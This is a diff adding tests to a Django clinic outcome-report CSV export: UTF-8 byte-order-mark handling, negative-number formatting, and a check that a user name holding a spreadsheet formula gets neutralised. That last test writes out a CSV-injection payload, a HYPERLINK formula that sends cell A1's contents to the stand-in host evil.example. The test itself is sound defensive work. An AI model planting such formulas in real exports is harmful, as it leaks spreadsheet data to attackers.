@@ -154,11 +154,35 @@ def test_report_downloads_as_csv(client: Client, personas: Any) -> None:
     seed_clinic(personas)
     response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "csv"})
     assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0]["group"] == "All therapists"
     assert rows[0]["plans_reached_week_12"] == "4" and rows[0]["missing_endpoint"] == "1"
     assert rows[0]["responder_rate_intention_to_treat"] == "50.00"
+    # A reduction is a negative number, written as one (never quoted into text).
+    assert rows[0]["median_percent_change"] == "-50.00"
     assert {r["group"] for r in rows[1:]} == {"Olive Owner", "Colin Colleague"}
+
+
+def test_report_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8(client: Client, personas: Any) -> None:
+    seed_clinic(personas)
+    personas.colleague.user.full_name = "Zoë Łącka"
+    personas.colleague.user.save()
+    response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "csv"})
+    assert response.content.startswith(b"\xef\xbb\xbfgroup,")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert "Zoë Łącka" in {r["group"] for r in rows}
+
+
+def test_report_csv_neutralises_a_formula_in_a_name(client: Client, personas: Any) -> None:
+    seed_clinic(personas)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    personas.colleague.user.full_name = formula
+    personas.colleague.user.save()
+    response = login(client, personas.owner.user).get(reverse("outcome-report"), {"format": "csv"})
+    rows = {r["group"]: r for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
+    assert formula not in rows
+    assert rows["'" + formula]["plans_reached_week_12"] == "1"
+    assert rows["'" + formula]["median_percent_change"] == "-60.00"
 
 
 def _report_queries(client: Client, user: Any, django_assert_max_num_queries: Any, limit: int) -> int:
